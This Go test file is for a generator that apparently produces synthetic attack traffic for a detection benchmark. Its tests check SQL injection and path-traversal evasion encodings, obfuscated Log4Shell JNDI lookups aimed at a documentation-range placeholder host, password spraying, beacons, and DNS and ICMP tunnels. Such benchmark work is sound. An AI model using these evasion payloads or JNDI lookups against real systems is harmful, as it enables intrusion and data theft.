package attack_test

import (
	"bufio"
	"bytes"
	"encoding/base32"
	"encoding/binary"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"

	"github.com/evilbench/evilbench/generator/attack"
	"github.com/evilbench/evilbench/generator/dialogue"
	"github.com/evilbench/evilbench/generator/packet"
)

// said is what one side says in the first steps, one connection after the other.
func said(a attack.Attack, s *attack.Site, from packet.Side, steps int) []byte {
	var b bytes.Buffer
	for k := range steps {
		for _, c := range step(a, s, k) {
			for _, turn := range c.Turns {
				if c.Proto == packet.TCP && turn.From == from {
					b.Write(turn.Data)
				}
			}
		}
	}
	return b.Bytes()
}

// requests parses all that the source says; what does not parse fails the test.
func requests(t *testing.T, a attack.Attack, steps int) []*http.Request {
	t.Helper()
	r := bufio.NewReader(bytes.NewReader(said(a, site(3), packet.Client, steps)))
	var out []*http.Request
	for {
		if _, err := r.Peek(1); err != nil {
			return out
		}
		q, err := http.ReadRequest(r)
		if err != nil {
			t.Fatalf("%T: request %d: %v", a, len(out), err)
		}
		if err := q.ParseForm(); err != nil && q.Method == http.MethodPost {
			t.Fatalf("%T: form: %v", a, err)
		}
		out = append(out, q)
	}
}

func web(agent string) attack.Web { return attack.Web{Rate: 1, PerConn: 3, Port: 8080, Agent: agent} }

func TestRepliesParseAndGiveNothingAway(t *testing.T) {
	for _, a := range []attack.Attack{
		&attack.WebScanner{Web: web("")}, &attack.SQLInjection{Web: web(""), Evasion: "none"},
		&attack.PathTraversal{Web: web(""), Evasion: "none"}, &attack.Log4Shell{Web: web(""), Evasion: "none"},
	} {
		r := bufio.NewReader(bytes.NewReader(said(a, site(3), packet.Server, 20)))
		n := 0
		for {
			if _, err := r.Peek(1); err != nil {
				break
			}
			reply, err := http.ReadResponse(r, nil)
			if err != nil {
				t.Fatalf("%T: reply %d: %v", a, n, err)
			}
			var body bytes.Buffer
			if _, err := body.ReadFrom(reply.Body); err != nil {
				t.Fatal(err)
			}
			if strings.Contains(body.String(), "root:") {
				t.Errorf("%T: reply %q", a, body.String())
			}
			n++
		}
		if n != 60 {
			t.Errorf("%T: %d replies to 60 requests", a, n)
		}
	}
}

// TestSQLDisguises: every disguise hides the plain text from a simple search, and only the disguise.
func TestSQLDisguises(t *testing.T) {
	for evasion, want := range map[string]string{
		"none": "UNION SELECT NULL", "comments": "UNION/**/SELECT/**/NULL", "case": "UnIoN", "double": "UNION+SELECT+NULL",
	} {
		var ids strings.Builder
		for _, q := range requests(t, &attack.SQLInjection{Web: web(""), Evasion: evasion}, 20) {
			ids.WriteString(q.Form.Get("id") + "\n")
		}
		if !strings.Contains(ids.String(), want) {
			t.Errorf("%s: nowhere %q", evasion, want)
		}
		if evasion != "none" && strings.Contains(ids.String(), "UNION SELECT") {
			t.Errorf("%s: plain text", evasion)
		}
	}
}

func TestTraversalDisguises(t *testing.T) {
	for evasion, want := range map[string]string{
		"none": "../../../", "encoded": "%2e%2e%2f%2e%2e%2f", "double": "%252e%252e%252f", "backslash": "..%5c..%5c",
	} {
		raw := string(said(&attack.PathTraversal{Web: web(""), Evasion: evasion}, site(3), packet.Client, 10))
		if !strings.Contains(raw, want) {
			t.Errorf("%s: nowhere %q", evasion, want)
		}
		if evasion != "none" && strings.Contains(raw, "../") {
			t.Errorf("%s: plain text", evasion)
		}
		for _, q := range requests(t, &attack.PathTraversal{Web: web(""), Evasion: evasion}, 10) {
			for path, i := q.RequestURI, 0; i < 2; i++ {
				path, _ = url.PathUnescape(path)
				if i == 1 && strings.Count(strings.ReplaceAll(path, `\`, "/"), "../") < 3 {
					t.Errorf("%s: %q does not climb", evasion, path)
				}
			}
		}
	}
}

// inner are lookups that give back one letter.
var inner = regexp.MustCompile(`\$\{(?:lower:|::-|env:UNSET:-)(\w)\}`)

// TestLookupsLeadNowhere: undone, every disguise is the same string, to an address of the documentation range (RFC 5737).
func TestLookupsLeadNowhere(t *testing.T) {
	whole := regexp.MustCompile(`\$\{jndi:(?:ldap|rmi|dns)://198\.51\.100\.77:1389/[a-z]+\}`)
	for _, evasion := range []string{"none", "nested", "default", "env"} {
		places := map[string]bool{}
		for i, q := range requests(t, &attack.Log4Shell{Web: web(""), Evasion: evasion}, 20) {
			found := 0
			fields := map[string]string{"q": q.Form.Get("q")}
			for name := range q.Header {
				fields[name] = q.Header.Get(name)
			}
			for name, v := range fields {
				if evasion != "none" && strings.Contains(v, "jndi") {
					t.Errorf("%s: plain text %q", evasion, v)
				}
				if whole.MatchString(inner.ReplaceAllString(v, "$1")) {
					found++
					places[name] = true
				}
			}
			if found != 1 {
				t.Errorf("%s: request %d has %d lookups: %v", evasion, i, found, fields)
			}
		}
		if len(places) != 6 {
			t.Errorf("%s: lookups in %v", evasion, places)
		}
	}
}

func TestSprayingTriesManyUsers(t *testing.T) {
	for _, spray := range []bool{false, true} {
		users, pairs := map[string]bool{}, map[[2]string]bool{}
		rs := requests(t, &attack.LoginGuessing{Web: web(""), Path: "/login", Status: 401, Spray: spray}, 20)
		for _, q := range rs {
			u, p := q.PostForm.Get("username"), q.PostForm.Get("password")
			users[u], pairs[[2]string{u, p}] = true, true
		}
		if (len(users) > 1) != spray || len(pairs) != len(rs) {
			t.Errorf("spray %v: %d users, %d pairs in %d requests", spray, len(users), len(pairs), len(rs))
		}
	}
}

// TestAgents: a given name is sent as it is; without one the source's own is, the same in every request.
func TestAgents(t *testing.T) {
	names := map[string]bool{}
	for _, q := range requests(t, &attack.WebScanner{Web: web("")}, 10) {
		names[q.UserAgent()] = true
		if !strings.HasSuffix(q.Host, ".corp.example:8080") {
			t.Errorf("host %q", q.Host)
		}
	}
	if len(names) != 1 || names[""] {
		t.Errorf("own names %v", names)
	}
	for _, q := range requests(t, &attack.WebScanner{Web: web("walker/1.0")}, 2) {
		if q.UserAgent() != "walker/1.0" {
			t.Errorf("name %q", q.UserAgent())
		}
	}
}

func TestBeaconsKeepTheirAddress(t *testing.T) {
	for _, method := range []string{"GET", "POST"} {
		targets := map[string]bool{}
		rs := requests(t, &attack.Beacon{Interval: 30, Method: method}, 20)
		for _, q := range rs {
			targets[q.RequestURI] = true
			state, _ := q.Cookie("SESSIONID")
			if q.Method != method || q.Host != "www.example.net" || (state != nil) != (method == "GET") || (q.ContentLength > 0) != (method == "POST") {
				t.Fatalf("%s: %+v", method, q)
			}
		}
		if len(rs) != 20 || len(targets) != 1 {
			t.Errorf("%s: %d reports to %v", method, len(rs), targets)
		}
	}
}

// TestTunnelledNamesAreNames: queries are whole, differ, fit a name, stay below the controller's domain, and are answered in kind.
func TestTunnelledNamesAreNames(t *testing.T) {
	for record, kind := range map[string]uint16{"txt": dialogue.TypeTXT, "null": dialogue.TypeNULL, "cname": dialogue.TypeCNAME} {
		for _, bytes := range []int{1, 7, 90, 110} {
			a, s := &attack.DNSTunnel{Rate: 5, Bytes: bytes, Record: record, PerSocket: 4}, site(1)
			names := map[string]bool{}
			for k := range 10 {
				turns := step(a, s, k)[0].Turns
				for i := 0; i < len(turns); i += 2 {
					q, r := turns[i].Data, turns[i+1].Data
					name, asked, end := question(q)
					if !strings.HasSuffix(name, ".example.net.") || len(name) > 254 {
						t.Fatalf("name %q", name)
					}
					names[name] = true
					if n := k*4 + i/2; bytes >= 8 && numberIn(t, name) != n {
						t.Fatalf("piece %d is numbered %d", n, numberIn(t, name))
					}
					if again, _, _ := question(r); again != name || q[0] != r[0] || q[1] != r[1] {
						t.Fatalf("%s: asked % x, answered % x", record, q, r)
					}
					// behind the question: a pointer to its name, then the type
					if answers := binary.BigEndian.Uint16(r[6:]); answers != 1 || asked != kind || r[end] != 0xc0 || binary.BigEndian.Uint16(r[end+2:]) != kind {
						t.Fatalf("%s: asked for %d, %d answers: % x", record, asked, answers, r[end:])
					}
				}
			}
			if bytes >= 8 && len(names) != 40 {
				t.Errorf("%s, %d bytes: %d names in 40 queries", record, bytes, len(names))
			}
		}
	}
}

// numberIn is the number of the piece that a name below example.net carries.
func numberIn(t *testing.T, name string) int {
	t.Helper()
	text := strings.ToUpper(strings.ReplaceAll(strings.TrimSuffix(name, ".example.net."), ".", ""))
	piece, err := base32.StdEncoding.WithPadding(base32.NoPadding).DecodeString(text)
	if err != nil {
		t.Fatal(err)
	}
	return int(binary.BigEndian.Uint32(piece[4:]))
}

// question is the name and type that a message asks for, and where its answers begin.
func question(m []byte) (name string, kind uint16, end int) {
	at := 12
	for m[at] != 0 {
		name += string(m[at+1:at+1+int(m[at])]) + "."
		at += 1 + int(m[at])
	}
	return name, binary.BigEndian.Uint16(m[at+1:]), at + 5
}

// TestTunnelledEchoesDiffer: a reply does not give back what was sent, and no message is larger than asked for.
func TestTunnelledEchoesDiffer(t *testing.T) {
	for _, most := range []int64{12, 56, 1400} {
		a := &attack.ICMPTunnel{Rate: 10, Bytes: int(most)}
		seen := map[string]bool{}
		for k := range 10 {
			for _, turn := range step(a, site(1), k)[0].Turns {
				if n := int64(len(turn.Data)) + turn.Fill; n > most || turn.Fill < 0 {
					t.Fatalf("%d bytes of %d", n, most)
				}
				seen[string(turn.Data)] = true
			}
		}
		if len(seen) != 10*40 {
			t.Errorf("%d different messages", len(seen))
		}
	}
}
